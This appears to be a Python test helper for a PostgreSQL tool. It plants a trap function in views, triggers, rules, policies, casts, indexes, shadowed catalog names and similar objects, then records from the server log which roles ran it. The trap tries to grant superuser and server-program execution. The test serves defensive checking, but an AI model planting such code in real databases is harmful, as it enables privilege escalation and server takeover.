"""Code that an ordinary role can leave in a database for others to run, and the roles that ran it.

Each plant is code of one role in place of something that the program may touch. It tries to become
a superuser, and then writes the role that runs it to the server's log.
"""

import re

MARK = "PLANTED"

# Runs as the role that touches the plant. It raises no exception, which would reveal the plant.
# The role of a run is gone while its session lives, so session_user cannot be asked.
TRAP = f"""
create or replace function {{schema}}.trap() returns boolean language plpgsql as $trap$
declare
	attempt text;
begin
	raise log '{MARK} by {{role}} run by %', current_user;
	foreach attempt in array array['reset role', 'reset session authorization', 'alter role {{role}} superuser',
		'alter role {{role}} createrole', 'create role planted superuser', 'grant pg_execute_server_program to {{role}}'] loop
		begin
			execute attempt;
			raise log '{MARK} by {{role}} run by % after %', current_user, attempt;
		exception when others then null;
		end;
	end loop;
	return true;
end
$trap$;
grant usage on schema {{schema}} to public;
grant execute on function {{schema}}.trap() to public;
create or replace function {{schema}}.trap_trigger() returns trigger language plpgsql as $trap$
begin
	perform {{schema}}.trap();
	return case when tg_op = 'DELETE' then old else new end;
end
$trap$;
grant execute on function {{schema}}.trap_trigger() to public;
"""

# name: statements by the owner. {schema} its schema, {ledger} that of its ledger, {table} a table of its schema.
LEDGER = {
    "view in place of runs": """
alter table {ledger}.run rename to run_real;
create view {ledger}.run as select * from {ledger}.run_real where {schema}.trap();
grant select, insert on {ledger}.run to public""",
    "view in place of promises": """
alter table {ledger}.promise rename to promise_real;
create view {ledger}.promise as select * from {ledger}.promise_real where {schema}.trap();
grant select, insert on {ledger}.promise to public""",
    "view in place of the journal": """
alter table {ledger}.journal rename to journal_real;
create view {ledger}.journal as select * from {ledger}.journal_real where {schema}.trap();
grant select, insert on {ledger}.journal to public""",
    "triggers": """
create trigger planted before insert on {ledger}.run for each row execute function {schema}.trap_trigger();
create trigger planted before insert on {ledger}.promise for each row execute function {schema}.trap_trigger()""",
    "rules": """
create rule planted as on insert to {ledger}.run do also select {schema}.trap();
create rule planted as on insert to {ledger}.promise do also select {schema}.trap()""",
    "row security": """
alter table {ledger}.run enable row level security, force row level security;
create policy planted on {ledger}.run using ({schema}.trap()) with check ({schema}.trap())""",
    "defaults": "alter table {ledger}.run alter note set default {schema}.trap()::text",
    "checks": "alter table {ledger}.run add constraint planted check ({schema}.trap()) not valid",
    "children": """
create table {schema}.child () inherits ({ledger}.run);
grant select on {schema}.child to public;
alter table {schema}.child enable row level security, force row level security;
create policy planted on {schema}.child using ({schema}.trap())""",
    "domain with a check": """
create domain {schema}.word as text check ({schema}.trap());
alter table {ledger}.promise alter texts type text;
alter table {ledger}.run alter source type {schema}.word""",
    "type with a cast": """
create type {schema}.number as (n bigint);
create function {schema}.number_text({schema}.number) returns text language plpgsql
	as 'begin perform {schema}.trap(); return $1.n::text; end';
create function {schema}.number_of(bigint) returns {schema}.number language sql as 'select row($1)::{schema}.number';
create cast ({schema}.number as text) with function {schema}.number_text({schema}.number) as implicit;
grant usage on type {schema}.number to public;
alter table {ledger}.run alter version type {schema}.number using {schema}.number_of(version)""",
    "index on an expression": """
create function {schema}.constant(integer) returns integer immutable language plpgsql
	as 'begin perform {schema}.trap(); return 1; end';
grant execute on function {schema}.constant(integer) to public;
create index planted on {ledger}.run (version) where {schema}.constant(1) = 1;
create index planted_too on {ledger}.run (({schema}.constant(statement_count::integer)))""",
    "generated column": """
create function {schema}.generated(bigint) returns bigint immutable language plpgsql
	as 'begin perform {schema}.trap(); return 1; end';
grant execute on function {schema}.generated(bigint) to public;
alter table {ledger}.run add planted bigint generated always as ({schema}.generated(version)) stored""",
    "its own functions replaced": """
create or replace function {ledger}.refuse_change() returns trigger language plpgsql
	as 'begin perform {schema}.trap(); return new; end';
create trigger planted after insert on {ledger}.run for each statement execute function {ledger}.refuse_change()""",
    "partitioned table": """
alter table {ledger}.journal rename to journal_real;
create table {ledger}.journal (like {ledger}.journal_real) partition by list (state);
create table {ledger}.journal_rest partition of {ledger}.journal default;
create trigger planted before insert on {ledger}.journal_rest for each row execute function {schema}.trap_trigger()""",
}

SCHEMA = {
    "triggers on its tables": """
create trigger planted before insert or update or delete on {table} for each row execute function {schema}.trap_trigger();
create trigger planted_too before insert or update or delete on {table} for each statement execute function {schema}.trap_trigger()""",
    "names of the catalog": """
create function {schema}.format(text, variadic text[]) returns text language sql as $f$select {schema}.trap()::text$f$;
create function {schema}.quote_ident(text) returns text language sql as $f$select {schema}.trap()::text$f$;
create function {schema}.current_setting(text) returns text language sql as $f$select {schema}.trap()::text$f$;
create function {schema}.set_config(text, text, boolean) returns text language sql as $f$select {schema}.trap()::text$f$;
create function {schema}.has_database_privilege(text, text, text) returns boolean language sql as $f$select {schema}.trap()$f$;
create table {schema}.pg_class (like pg_catalog.pg_class);
create view {schema}.pg_namespace as select n.* from pg_catalog.pg_namespace n where {schema}.trap();
create view {schema}.pg_roles as select n.* from pg_catalog.pg_roles n where {schema}.trap();
grant select on {schema}.pg_namespace, {schema}.pg_roles to public""",
    "operators": """
create function {schema}.same(text, text) returns boolean language plpgsql as 'begin return {schema}.trap(); end';
create function {schema}.same(name, text) returns boolean language plpgsql as 'begin return {schema}.trap(); end';
create operator {schema}.= (leftarg = text, rightarg = text, function = {schema}.same);
create operator {schema}.= (leftarg = name, rightarg = text, function = {schema}.same);
grant execute on all functions in schema {schema} to public""",
    "views, policies and defaults": """
create view {schema}.looked_at as select {schema}.trap() as planted;
grant select on {schema}.looked_at to public;
create table {schema}.guarded (n integer default length({schema}.trap()::text), check ({schema}.trap()));
insert into {schema}.guarded values (1);
alter table {schema}.guarded enable row level security, force row level security;
create policy planted on {schema}.guarded using ({schema}.trap());
create statistics {schema}.planted on (n is not null), n from {schema}.guarded""",
    "indexes, columns and partitions": """
create function {schema}.immutable_trap(anyelement) returns integer immutable language plpgsql as 'begin perform {schema}.trap(); return 1; end';
create table {schema}.computed (n integer, g integer generated always as ({schema}.immutable_trap(1)) stored);
create index planted on {schema}.computed (({schema}.immutable_trap(n))) where {schema}.immutable_trap(n) = 1;
create table {schema}.parts (n integer) partition by list (({schema}.immutable_trap(n)));
create table {schema}.parts_1 partition of {schema}.parts for values in (1);
create materialized view {schema}.kept as select {schema}.trap() as planted""",
}

EVERYTHING_IN_THE_SCHEMA = ";".join(SCHEMA.values())


def prepare(session, role, schema):
    session.execute(TRAP.format(role=role, schema=schema))


def plant(session, statements, **names):
    session.execute(statements.format(**names))


def runners(log):
    """Pairs (planter, runner) of the server's log."""
    pattern = rf"LOG:  {MARK} by (\S+) run by (\S+)"
    return set(re.findall(pattern, log))
